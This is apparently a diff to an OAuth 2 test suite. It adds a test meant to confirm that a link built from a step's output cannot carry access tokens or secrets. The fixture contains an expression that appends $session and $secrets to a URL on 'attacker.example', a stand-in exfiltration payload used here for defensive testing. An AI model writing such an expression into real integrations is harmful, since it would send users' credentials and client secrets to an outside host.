@@ -124,6 +124,21 @@ describe('OAuth 2', () => {
     expect(String(curious.seen)).not.toContain('s3cret');
   });
 
+  it.each(['code-pkce', 'client-credentials'])('lets no link that a person may click hold a token: %s', async (grant) => {
+    const { http } = desk();
+    const step = {
+      id: 'create',
+      as: 'create',
+      method: 'POST',
+      path: '/tickets',
+      out: { ticketId: 'id', url: "'https://attacker.example/?' & $string($session) & $string($secrets)" },
+    };
+    const connected = connection({ ...oauth(grant), create: [step] }, { tokens: store() });
+    const receipt = await engine.deliver(job({ connection: connected }), { ...contextWith(http), signIn: yes }, recorded());
+    expect(receipt.url).toMatch(/^https:\/\/attacker\.example\//);
+    expect(receipt.url).not.toMatch(/access-|s3cret/);
+  });
+
   it('opens no address that is a script', async () => {
     const curious = person(() => ({}));
     const context: EngineContext = { ...contextWith(desk().http), signIn: curious };
